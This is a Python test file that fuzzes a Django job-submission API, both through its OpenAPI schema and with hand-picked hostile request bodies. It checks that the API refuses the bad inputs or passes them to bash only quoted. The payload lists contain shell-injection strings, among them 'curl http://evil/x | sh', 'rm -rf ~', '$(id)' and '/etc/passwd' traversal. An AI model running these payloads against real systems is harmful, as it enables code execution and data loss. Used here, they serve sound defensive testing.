"""The REST API fuzzed against its own OpenAPI schema (schemathesis), in-process through Django's
WSGI handler with a real personal access token; and hand-picked hostile bodies.

For every operation of the served ``/api/v1/openapi.json`` (``tests/api`` checks that
``docs/openapi.json`` is the same), schemathesis sends valid and invalid requests (its coverage and
fuzzing phases; positive and negative data; also without the token, or with a spoilt one) and:

- no response is 5xx (``not_a_server_error``);
- status code, content type and body are those the schema declares for the operation
  (``status_code_conformance``, ``content_type_conformance``, ``response_schema_conformance``);
- every 4xx body is JSON with a non-empty ``detail`` sentence;
- a job created from fuzzed profile fields has those values in its bash script only quoted.

Generated path parameters now and then name rows that exist (carol's job, profile and sessions,
her team), and generated bodies now and then carry the example profile with one field replaced by a
hostile value, or overrides by their real names, so the checks behind the schema are reached too.

Nothing here reaches Slurm or JupyterHub. ``no_slurm`` fails any gateway use except reading the
seeded job's log (answered with a few bytes: the API reads logs through Slurm's side); submissions
stay in the test's transaction, so their on-commit send never runs; and the fixture fails the test
if any other command was tried, even one whose failure the code swallowed. JupyterHub is
:class:`EmptyHub`, an in-memory hub that starts empty, so session starts succeed (201) and a 503
would be a finding. Runs are repeatable (``derandomize``) and bounded (``MAX_EXAMPLES``).
"""

from __future__ import annotations

import itertools
import json
import re
import uuid
from datetime import UTC, datetime
from http import HTTPStatus

import pytest
import schemathesis
from django.core.handlers.wsgi import WSGIHandler
from django.core.signals import request_finished, request_started
from django.db import close_old_connections
from django.test.utils import override_settings
from hypothesis import HealthCheck
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi.checks import content_type_conformance, response_schema_conformance, status_code_conformance

from api.tokens import token_create
from interactive import hub
from interactive.models import Session
from jobs.models import Job
from profiles.document import OVERRIDE_ALIASES
from profiles.models import Profile
from profiles.schema import parse_profile
from slurm import CommandResult
from slurm.states import JobState
from tests.profiles.conftest import EXAMPLE_TEXT, cluster, no_slurm, people  # noqa: F401  (fixtures)

pytestmark = pytest.mark.django_db

MAX_EXAMPLES = 50
SCOPES = ["read", "jobs", "sessions", "profiles"]
#: Rows the fuzzing user (carol, lead of vision) has: her job (Slurm id 77), her profile (shared
#: with vision), a stopped and a running session; generated path parameters now and then use them.
JOB_KEY = uuid.UUID("5f0c8a52-6d1e-4c8e-9a4b-0d7f3a1e2b3c")
PROFILE_PK = 987_654_321
KNOWN_PATH_VALUES = {"ref": ["77", str(JOB_KEY)], "pk": [PROFILE_PK], "name": ["lab-0000", "lab-0001", "vision"]}
#: The example profile with the two fields it lacks (an account and a requirements file): valid, it saves and runs.
PROFILE = (
    EXAMPLE_TEXT.replace("name: train-digits\n", "name: train-digits\naccount: vision\n") + "  requirements: requirements.txt\n"
)
#: Where a hostile value may reach the job's bash script (checked to be quoted there).
SHELL_MARKERS = ["touch /tmp/pwned", "$(id)", "`id`"]
CHECKS = [not_a_server_error, status_code_conformance, content_type_conformance, response_schema_conformance]


class InProcessWSGI:
    """Django's WSGI handler, for requests inside the test's transaction: like Django's test client
    it keeps ``close_old_connections`` off the request signals (it would close the connection that
    the ``db`` fixture's transaction lives in)."""

    def __init__(self):
        self.handler = WSGIHandler()

    def __call__(self, environ, start_response):
        request_started.disconnect(close_old_connections)
        try:
            response = self.handler(environ, start_response)
        finally:
            request_started.connect(close_old_connections)
        close = response.close

        def close_keeping_connection():
            request_finished.disconnect(close_old_connections)
            try:
                close()
            finally:
                request_finished.connect(close_old_connections)

        response.close = close_keeping_connection
        return response


APP = InProcessWSGI()
CONFIG = schemathesis.Config.from_dict({"generation": {"max-examples": MAX_EXAMPLES, "deterministic": True, "database": "none"}})
with override_settings(ALLOWED_HOSTS=["localhost"]):  # the Host schemathesis' WSGI client sends
    schema = schemathesis.openapi.from_wsgi("/api/v1/openapi.json", APP, config=CONFIG)
#: Stands for the token in generated cases (schemathesis builds its coverage cases at collection,
#: before any token exists); the test sends the real token of ``api_world`` in its place.
PLACEHOLDER = "Bearer gpp_placeholder-replaced-by-the-test"


@schema.auth(refresh_interval=None)
class PersonalAccessToken:
    """``Authorization: Bearer gpp_…`` on every case, except those where schemathesis tests a
    request without valid credentials (it leaves the header out, or spoils it, itself)."""

    def get(self, case, context):
        return PLACEHOLDER

    def set(self, case, data, context):
        case.headers = {**(case.headers or {}), "Authorization": data}


@schema.hook
def before_generate_path_parameters(context, strategy):
    """Generated path parameters, or now and then those of rows that exist."""
    names = [p.name for p in context.operation.path_parameters]
    choices = [KNOWN_PATH_VALUES.get(n, []) for n in names]
    known = [dict(zip(names, values, strict=False)) for values in itertools.product(*choices)] if names and all(choices) else []
    return st.one_of(strategy, st.sampled_from(known)) if known else strategy


#: Values put into a profile field or an override: odd types, limits, shell and encoding tricks.
HOSTILE = [
    "$(id)",
    "`id`",
    "a;b|c&d>e<f",
    "x' ; touch /tmp/pwned ; echo '",
    'x" ; touch /tmp/pwned ; echo "',
    "../../etc/passwd",
    "/etc/shadow",
    "\x00",
    "a\x00b",
    "\u202eevil",
    "\u200b",
    "line\nbreak",
    "#SBATCH --gres=gpu:8",
    "numpy==1; rm -rf ~",
    "--index-url=http://evil/",
    "é" * 300,
    "",
    " ",
    "-1",
    "99999999999999999999",
    "1e309",
    "NaN",
    "Infinity",
    "{{ 7*7 }}",
]
VALUES = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=40),
    st.integers(),
    st.sampled_from([-1, 0, 2**31, 2**63, 10**30]),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.none(),
    st.lists(st.sampled_from(HOSTILE), max_size=3),
)
_FIELD_LINES = [i for i, line in enumerate(PROFILE.splitlines()) if re.match(r"^ *[a-z_]+: \S", line)]


def _with_value(index: int, value) -> str:
    lines = PROFILE.splitlines()
    key = lines[index].split(":", 1)[0]
    lines[index] = f"{key}: {json.dumps(value, ensure_ascii=False)}"  # JSON text is a YAML flow value
    return "\n".join(lines) + "\n"


#: The profile (valid), or it with one field's value replaced by a hostile one.
PROFILE_TEXTS = st.one_of(st.just(PROFILE), st.builds(_with_value, st.sampled_from(_FIELD_LINES), VALUES))
#: Overrides by their real names (generated keys are almost never one), with hostile values.
OVERRIDES = st.dictionaries(
    st.sampled_from(sorted(OVERRIDE_ALIASES) + ["resources.cpus", "run.args", "environment.pip"]), VALUES, max_size=3
)


def _profile_like(body):
    if not isinstance(body, dict):
        return st.just(body)
    parts = {}
    if "yaml" in body:
        parts["yaml"] = PROFILE_TEXTS
    if "overrides" in body:
        parts["overrides"] = OVERRIDES
    if "team" in body:
        parts["team"] = st.sampled_from([None, "", "vision", "nlp", body["team"]])
    if "profile_yaml" in body or "profile_id" in body:  # POST /jobs: exactly one of a file or a saved profile
        body = {k: v for k, v in body.items() if k not in ("profile_yaml", "profile_id")}
        source = st.one_of(st.fixed_dictionaries({"profile_yaml": PROFILE_TEXTS}), st.just({"profile_id": PROFILE_PK}))
        return st.tuples(st.fixed_dictionaries(parts), source).map(lambda new: {**body, **new[0], **new[1]})
    return st.fixed_dictionaries(parts).map(lambda new: {**body, **new}) if parts else st.just(body)


@schema.hook
def before_generate_body(context, strategy):
    """Generated bodies, or now and then the same with a profile file close to a valid one, overrides
    the API knows and teams that exist, so the checks behind the schema (YAML, site policy, sharing,
    saving, the job script) are fuzzed too."""
    return st.one_of(strategy, strategy.flatmap(_profile_like))


def is_log_read(argv) -> bool:
    """``sudo -n -u carol -- dd if=/o/77.out …``: reading the seeded job's log, the one command on
    Slurm's side the API may run here."""
    return list(argv[:6]) == ["sudo", "-n", "-u", "carol", "--", "dd"] and argv[6] in ("if=/o/77.out", "if=/o/77.err")


class EmptyHub:
    """JupyterHub as the session endpoints use it (:mod:`interactive.hub`), in memory: it starts with
    no servers (``users`` may be seeded); a start leaves a pending ("spawn") server, a stop removes it."""

    def __init__(self):
        self.users: dict[str, dict[str, hub.HubServer]] = {}

    def servers(self, username):
        found = self.users.get(username)
        return None if found is None else dict(found)

    def ensure_user(self, username):
        self.users.setdefault(username, {})

    def remove_stopped_servers(self, username):
        return 0

    def start_server(self, username, server_name, user_options):
        self.users.setdefault(username, {})[server_name] = hub.HubServer(
            server_name,
            False,
            "spawn",
            f"/user/{username}/{server_name}/",
            f"/hub/api/users/{username}/servers/{server_name}/progress",
            None,
            None,
        )
        return False

    def stop_server(self, username, server_name):
        self.users.get(username, {}).pop(server_name, None)

    def progress_message(self, username, server_name, *, read_for=0.8):
        return "Waiting for the job to start" if server_name in self.users.get(username, {}) else ""


@pytest.fixture
def api_world(people, cluster, no_slurm, monkeypatch, settings):
    """carol (lead of vision) with a token of every scope (``carol.fuzz_token``), a running job, a
    profile shared with vision, a stopped and a running session; vision's usage in the cache;
    :class:`EmptyHub`; Slurm for log reads only (checked at the end). Yields carol."""
    from teams.models import Team
    from teams.usage.cache import TeamUsage, UsageStatus, _store

    settings.ALLOWED_HOSTS = [*settings.ALLOWED_HOSTS, "localhost"]
    carol = people["carol"]
    carol.fuzz_token = token_create(user=carol, name="fuzz", scopes=SCOPES, days=1)[1]

    fake_hub = EmptyHub()
    for name in ("servers", "ensure_user", "remove_stopped_servers", "start_server", "stop_server", "progress_message"):
        monkeypatch.setattr(hub, name, getattr(fake_hub, name))
    fake_hub.users["carol"] = {"lab-0001": hub.HubServer("lab-0001", True, None, "/user/carol/lab-0001/", "", None, None)}
    scripted = no_slurm.execute

    def execute(argv, *, stdin, timeout):
        if is_log_read(argv):
            no_slurm.calls.append((list(argv), stdin, timeout))
            return CommandResult(tuple(argv), 0, "époch 1\n".encode(), b"", 0.001)
        return scripted(argv, stdin=stdin, timeout=timeout)  # raises AssertionError: nothing else is expected

    monkeypatch.setattr(no_slurm, "execute", execute)

    Job.objects.create(
        key=JOB_KEY,
        user=carol,
        account="vision",
        name="train",
        partition="small",
        memory_mb=1024,
        time_limit_min=10,
        script="true",
        state=JobState.RUNNING,
        slurm_job_id=77,
        output_path="/o/%j.out",
        error_path="/o/%j.err",
    )
    shared = EXAMPLE_TEXT.replace("name: train-digits", "name: shared-digits")  # the example's own name stays free to save
    Profile.objects.create(
        pk=PROFILE_PK,
        owner=carol,
        name="shared-digits",
        yaml=shared,
        spec=parse_profile(shared).data,
        team=Team.objects.get(name="vision"),
    )
    Session.objects.create(
        user=carol,
        server_name="lab-0000",
        ide="lab",
        partition="interactive",
        memory_mb=4096,
        time_limit_min=120,
        state="STOPPED",
        message="Stopped by you.",
    )
    Session.objects.create(
        user=carol,
        server_name="lab-0001",
        ide="lab",
        partition="interactive",
        memory_mb=4096,
        time_limit_min=120,
        state="RUNNING",
    )
    _store(
        {
            "vision": TeamUsage(
                account="vision", tracked=True, period_start=datetime(2026, 11, 1, tzinfo=UTC), period_end=None, taken_at=1.0
            )
        },
        UsageStatus(taken_at=1.0),
    )
    yield carol
    assert all(is_log_read(argv) for argv, _, _ in no_slurm.calls), f"the API ran commands on Slurm's side: {no_slurm.calls}"


def unquoted(script: str, needle: str) -> list[int]:
    """Where ``needle`` starts in the bash ``script`` with a part outside single quotes, backslash
    escapes and comments, i.e. where bash would read it (in part) as code."""
    literal = [False] * len(script)
    state, i = "", 0
    while i < len(script):
        c = script[i]
        if state == "'":
            literal[i] = True
            state = "" if c == "'" else state
        elif state == "#":
            literal[i] = True
            state = "" if c == "\n" else state
        elif c == "\\":
            literal[i : i + 2] = [True] * len(literal[i : i + 2])
            i += 2
            continue
        elif state == '"':
            state = "" if c == '"' else state
        elif c == "'":
            literal[i], state = True, "'"
        elif c == '"':
            state = '"'
        elif c == "#" and (i == 0 or script[i - 1] in " \t\n;"):
            literal[i], state = True, "#"
        i += 1
    return [m.start() for m in re.finditer(re.escape(needle), script) if not all(literal[m.start() : m.end()])]


def _assert_clear_4xx(response) -> None:
    if 400 <= response.status_code < 500:
        try:
            body = json.loads(response.content)
        except ValueError:
            raise AssertionError(f"{response.status_code} without a JSON body: {response.content[:200]!r}") from None
        assert isinstance(body, dict) and isinstance(body.get("detail"), str) and body["detail"].strip(), (
            f"{response.status_code} without a 'detail' sentence: {body!r}"
        )


def _assert_script_quotes(response) -> None:
    """A job just created: the hostile values it was made from are in its script only quoted."""
    if response.status_code == HTTPStatus.CREATED and "state_label" in response.text:  # a JobOut
        script = Job.objects.get(key=json.loads(response.content)["key"]).script
        for marker in SHELL_MARKERS:
            assert unquoted(script, marker) == [], f"{marker!r} reaches bash as code:\n{script}"


@schema.parametrize()
@hsettings(
    max_examples=MAX_EXAMPLES,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.filter_too_much,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)
def test_every_operation_conforms_to_the_schema(case, api_world):
    # One transaction (and one set of rows) per operation: examples see what earlier ones created.
    if (case.headers or {}).get("Authorization") == PLACEHOLDER:
        case.headers["Authorization"] = f"Bearer {api_world.fuzz_token}"
    response = case.call()
    case.validate_response(response, checks=CHECKS)
    _assert_clear_4xx(response)
    _assert_script_quotes(response)


def test_unquoted_finds_code_and_only_code():
    assert unquoted("echo 'a $(x)' \"b\" \\$ # $(x)\n", "$(x)") == []
    assert unquoted("echo \"run 'a$(x)'\"\n", "$(x)") == [12]  # single quotes inside double quotes do not quote
    assert unquoted("echo $(x)\n", "$(x)") == [5]


# --- hand-picked hostile bodies ------------------------------------------------------------------
def _send(client, method: str, path: str, token: str, body=None, *, raw: bytes | None = None):
    data = raw if raw is not None else (json.dumps(body) if body is not None else None)
    kwargs = {"HTTP_AUTHORIZATION": f"Bearer {token}"}
    if data is not None:
        kwargs.update(data=data, content_type="application/json")
    return getattr(client, method)(f"/api/v1{path}", **kwargs)


def _rows() -> tuple[int, int, int]:
    return Job.objects.count(), Profile.objects.count(), Session.objects.count()


def _assert_refused(response, rows_before, field: str | None = None) -> dict:
    """A 4xx with a JSON ``detail`` sentence (and ``field`` among its errors, if given), a short
    answer, and no new Job, Profile or Session row."""
    assert 400 <= response.status_code < 500, (response.status_code, response.content[:300])
    _assert_clear_4xx(response)
    body = response.json()
    if field is not None:
        assert field in [e["field"] for e in body["errors"]], body
    assert len(response.content) < 100_000, f"a refusal of {len(response.content)} bytes"
    assert _rows() == rows_before, "a refused request created rows"
    return body


def _profile(**fields) -> str:
    """:data:`PROFILE` with each field (by the last part of its dotted name) set to the YAML text given."""
    lines = PROFILE.splitlines()
    for dotted, text in fields.items():
        key = dotted.rsplit(".", 1)[-1]
        index = next(i for i, line in enumerate(lines) if line.strip().startswith(f"{key}:"))
        lines[index] = lines[index].split(":", 1)[0] + f": {text}"
    return "\n".join(lines) + "\n"


def test_the_hostile_bodies_start_from_a_profile_that_runs(client, api_world):
    response = _send(client, "post", "/jobs", api_world.fuzz_token, {"profile_yaml": PROFILE})
    assert response.status_code == HTTPStatus.CREATED, response.content
    assert "requirements.txt" in Job.objects.get(key=response.json()["key"]).script


#: (field, YAML text of its value): shell metacharacters and paths where no such value is valid.
REFUSED_EVERYWHERE = [
    ("environment.pip", '["numpy; curl http://evil/x | sh"]'),
    ("environment.pip", '["--index-url=http://evil/", "numpy"]'),
    ("environment.pip", '["numpy==2.2.6 && rm -rf ~"]'),
    ("environment.python", '"3.11; id"'),
    ("resources.partition", '"small; scancel -u alice"'),
    ("resources.memory", '"2G$(id)"'),
    ("resources.time_limit", '"`id`"'),
    ("account", '"vision;id"'),
    ("name", '"x\\n#SBATCH --gres=gpu:8"'),
    ("run.workdir", '"../../etc"'),
    ("run.script", '"/etc/passwd"'),
    ("environment.requirements", '"../../etc/passwd"'),
]


@pytest.mark.parametrize("field, value", REFUSED_EVERYWHERE, ids=[f"{f}={v}" for f, v in REFUSED_EVERYWHERE])
def test_shell_metacharacters_where_no_such_value_is_valid_are_refused(client, api_world, field, value):
    text, before = _profile(**{field: value}), _rows()
    for method, path, body in [
        ("post", "/jobs", {"profile_yaml": text}),
        ("post", "/profiles", {"yaml": text}),
        ("put", f"/profiles/{PROFILE_PK}", {"yaml": text}),
    ]:
        _assert_refused(_send(client, method, path, api_world.fuzz_token, body), before, field)
    assert Profile.objects.get(pk=PROFILE_PK).name == "shared-digits"  # the PUT changed nothing


PAYLOADS = [
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "x'; touch /tmp/pwned; echo '",
    'x"; touch /tmp/pwned; echo "',
    "a;touch /tmp/pwned|b&c",
]


@pytest.mark.parametrize("field", ["name", "run.script", "run.args", "run.workdir", "environment.requirements"])
def test_shell_metacharacters_in_free_text_fields_never_reach_bash_as_code(client, api_world, field):
    """A name, a file name or an argument may legitimately hold such characters, so the API may
    accept them; then they reach bash only quoted (or, for the workdir, not at all)."""
    for payload in PAYLOADS:
        before = _rows()
        value = json.dumps([payload] if field == "run.args" else payload)
        response = _send(client, "post", "/jobs", api_world.fuzz_token, {"profile_yaml": _profile(**{field: value})})
        if response.status_code >= 400:
            _assert_refused(response, before)
            continue
        assert response.status_code == HTTPStatus.CREATED, response.content[:300]
        script = Job.objects.get(key=response.json()["key"]).script
        assert "touch /tmp/pwned" in script or field == "run.workdir"  # the workdir is sbatch's --chdir
        assert unquoted(script, "touch /tmp/pwned") == [], f"{field}={payload!r} reaches bash as code:\n{script}"


@pytest.mark.parametrize(
    "raw", [b'{"yaml": "\xff\xfe"}', b"\xc3\x28", b'{"profile_yaml": "version: 1\xed\xa0\x80"}', b"\x00", b'{"yaml": "\\ud800"}']
)
@pytest.mark.parametrize("path", ["/jobs", "/profiles", "/profiles/validate", f"/profiles/{PROFILE_PK}/clone", "/sessions"])
def test_invalid_utf8_as_the_raw_body_is_refused(client, api_world, raw, path):
    _assert_refused(_send(client, "post", path, api_world.fuzz_token, raw=raw), _rows())


def _nested(depth: int):
    value: object = "x"
    for _ in range(depth):
        value = [value]
    return value


@pytest.mark.parametrize(
    "path, body",
    [
        ("/jobs", {"profile_yaml": "#" * 1_000_000}),
        ("/jobs", {"profile_yaml": PROFILE + "# " + "x" * 1_000_000 + "\n"}),
        ("/profiles", {"yaml": PROFILE + "#" * 1_000_000}),
        ("/profiles/validate", {"yaml": "a" * 1_000_000}),
        (f"/profiles/{PROFILE_PK}/clone", {"name": "n" * 1_000_000}),
        (f"/profiles/{PROFILE_PK}/submit", {"overrides": {"run.args": ["x" * 1_000_000]}}),
        (f"/profiles/{PROFILE_PK}/submit", {"overrides": {f"k{i}": i for i in range(60_000)}}),
        ("/sessions", {"gpu_type": "x" * 1_000_000}),
        ("/sessions", {f"field{i}": i for i in range(100_000)}),
        ("/profiles", {"x" * 1_000_000: 1}),
        ("/jobs", {"profile_yaml": PROFILE, "overrides": {"args": _nested(900)}}),
        (f"/profiles/{PROFILE_PK}/clone", {"overrides": {"args": _nested(900)}}),
        ("/jobs", {"profile_yaml": "#" * 3_000_000}),  # over Django's DATA_UPLOAD_MAX_MEMORY_SIZE (2.5 MB)
    ],
    ids=[
        "yaml-1MB",
        "yaml-1MB-comment",
        "profile-1MB",
        "validate-1MB",
        "clone-name-1MB",
        "override-1MB",
        "60k-overrides",
        "gpu_type-1MB",
        "100k-fields",
        "1MB-key",
        "overrides-900-deep",
        "clone-900-deep",
        "body-3MB",
    ],
)
def test_a_megabyte_body_is_refused_briefly(client, api_world, path, body):
    _assert_refused(_send(client, "post", path, api_world.fuzz_token, body), _rows())


OUT_OF_RANGE = [
    ("gpus", -1),
    ("gpus", 10**30),
    ("gpus", 2**63),
    ("cpus", -(2**63)),
    ("cpus", 1e308),
    ("nodes", 10**6),
    ("memory", -5),
    ("memory", "99999999999T"),
    ("memory", 1e308),
    ("time_limit", -1),
    ("time_limit", 10**20),
    ("time_limit", "99999-00:00:00"),
]
FIELD_OF = {
    "gpus": "resources.gpus_per_node",
    "cpus": "resources.cpus",
    "nodes": "resources.nodes",
    "memory": "resources.memory",
    "time_limit": "resources.time_limit",
}


@pytest.mark.parametrize("name, value", OUT_OF_RANGE, ids=[f"{n}={v}" for n, v in OUT_OF_RANGE])
def test_negative_and_huge_numbers_in_overrides_are_refused(client, api_world, name, value):
    overrides = {name: value}
    for path, body in [
        ("/jobs", {"profile_yaml": PROFILE, "overrides": overrides}),
        (f"/profiles/{PROFILE_PK}/submit", {"overrides": overrides}),
        (f"/profiles/{PROFILE_PK}/clone", {"name": "copy", "overrides": overrides}),
    ]:
        _assert_refused(_send(client, "post", path, api_world.fuzz_token, body), _rows(), FIELD_OF[name])


PROFILE_JSON = json.dumps(PROFILE).encode()


@pytest.mark.parametrize(
    "path, raw",
    [
        ("/jobs", b'{"profile_yaml": %s, "overrides": {"gpus": NaN}}' % PROFILE_JSON),
        ("/jobs", b'{"profile_yaml": %s, "overrides": {"cpus": Infinity}}' % PROFILE_JSON),
        ("/jobs", b'{"profile_yaml": %s, "overrides": {"memory": -Infinity}}' % PROFILE_JSON),
        ("/jobs", b'{"profile_yaml": %s, "overrides": {"time_limit": 1e999}}' % PROFILE_JSON),
        ("/jobs", b'{"profile_id": 1e999}'),
        ("/jobs", b'{"profile_id": %d}' % 2**80),
        ("/sessions", b'{"memory_gb": NaN}'),
        ("/sessions", b'{"memory_gb": Infinity}'),
        ("/sessions", b'{"memory_gb": 1e-300}'),
        ("/sessions", b'{"gpus": -1}'),
        ("/sessions", b'{"cpus": %d}' % 2**70),
        ("/sessions", b'{"hours": 1e999}'),
    ],
)
def test_non_finite_and_huge_json_numbers_are_refused(client, api_world, path, raw):
    _assert_refused(_send(client, "post", path, api_world.fuzz_token, raw=raw), _rows())


NUL = [
    ("post", "/profiles", {"yaml": PROFILE.replace("train-digits", "train\x00digits")}),
    ("post", "/profiles", {"yaml": PROFILE, "team": "vision\x00"}),
    ("post", "/jobs", {"profile_yaml": _profile(name='"train\\0digits"')}),
    ("post", "/jobs", {"profile_yaml": _profile(**{"run.script": '"train.py\\0"'})}),
    ("post", "/jobs", {"profile_yaml": _profile(**{"run.args": '["a\\0b"]'})}),
    ("post", "/jobs", {"profile_yaml": _profile(**{"environment.pip": '["numpy\\0"]'})}),
    ("post", "/jobs", {"profile_yaml": PROFILE.replace("  gpus_per_node: 0\n", '  gpus_per_node: 0\n  gpu_type: "\\0"\n')}),
    ("post", "/jobs", {"profile_yaml": PROFILE, "overrides": {"name": "a\x00b"}}),
    ("post", "/jobs", {"profile_yaml": PROFILE, "overrides": {"workdir": "a\x00b"}}),
    ("post", "/jobs", {"profile_yaml": PROFILE, "overrides": {"args": ["\x00"]}}),
    ("post", "/jobs", {"profile_yaml": PROFILE, "overrides": {"a\x00b": 1}}),
    ("post", "/jobs", {"profile_yaml": PROFILE, "filename": "train\x00.yaml"}),
    ("put", f"/profiles/{PROFILE_PK}", {"yaml": PROFILE, "team": "\x00"}),
    ("post", f"/profiles/{PROFILE_PK}/share", {"team": "vision\x00"}),
    ("post", f"/profiles/{PROFILE_PK}/clone", {"name": "copy\x00"}),
    ("post", f"/profiles/{PROFILE_PK}/submit", {"overrides": {"gpu_type": "\x00"}}),
    ("post", "/sessions", {"partition": "interactive\x00"}),
    ("post", "/sessions", {"gpu_type": "\x00"}),
    ("get", "/jobs/%00", None),
    ("get", "/jobs/77/log?stream=out%00", None),
    ("get", "/jobs?scope=%00", None),
    ("get", "/teams/vision%00/usage", None),
    ("get", "/sessions/lab-0000%00", None),
    ("delete", "/sessions/lab-0001%00", None),
    ("post", "/jobs/77%00/cancel", None),
]


@pytest.mark.parametrize("method, path, body", NUL, ids=[f"{m} {p} {json.dumps(b)[:50]}" for m, p, b in NUL])
def test_nul_characters_are_refused(client, api_world, method, path, body):
    _assert_refused(_send(client, method, path, api_world.fuzz_token, body), _rows())
    assert Profile.objects.get(pk=PROFILE_PK).team.name == "vision" and Job.objects.get(key=JOB_KEY).cancel_requested_at is None
    assert Session.objects.get(server_name="lab-0001").state == "RUNNING"


#: A lone surrogate (JSON "\\ud800" without its pair) in any text: no character, and PostgreSQL's UTF-8
#: cannot store it (in overrides.args it once reached the job row: an HTTP 500).
SURROGATE = [
    ("/jobs", {"profile_yaml": PROFILE, "overrides": {"args": ["\ud800"]}}),
    ("/jobs", {"profile_yaml": PROFILE, "overrides": {"name": "a\udfffb"}}),
    ("/jobs", {"profile_yaml": PROFILE, "overrides": {"run.args": ["x", "\ud800"]}}),
    (f"/profiles/{PROFILE_PK}/submit", {"overrides": {"args": ["\ud800"]}}),
    (f"/profiles/{PROFILE_PK}/clone", {"name": "copy\ud800"}),
]


@pytest.mark.parametrize("path, body", SURROGATE, ids=[f"{p} {json.dumps(b)[-40:]}" for p, b in SURROGATE])
def test_lone_surrogates_are_refused_saying_why(client, api_world, path, body):
    answer = _assert_refused(_send(client, "post", path, api_world.fuzz_token, body), _rows())
    assert "surrogate pair" in json.dumps(answer), answer


def test_non_json_errors_under_the_api_are_json_too(client, api_world):
    """Answers the API's handlers never see: no route (``pk`` is a number), a method the path lacks."""
    for method, path in [
        ("get", "/profiles/abc"),
        ("get", "/nope"),
        ("patch", "/jobs"),
        ("put", "/me"),
        ("get", f"/profiles/{PROFILE_PK}/submit"),
    ]:
        response = _send(client, method, path, api_world.fuzz_token)
        assert (
            response.status_code in (HTTPStatus.NOT_FOUND, HTTPStatus.METHOD_NOT_ALLOWED)
            and response["Content-Type"] == "application/json"
        )
        _assert_clear_4xx(response)
    assert "Allow" in _send(client, "patch", "/jobs", api_world.fuzz_token)
    page = client.get("/no-such-page/")
    assert page.status_code == HTTPStatus.NOT_FOUND and page["Content-Type"].startswith(
        "text/html"
    )  # the pages' errors stay HTML
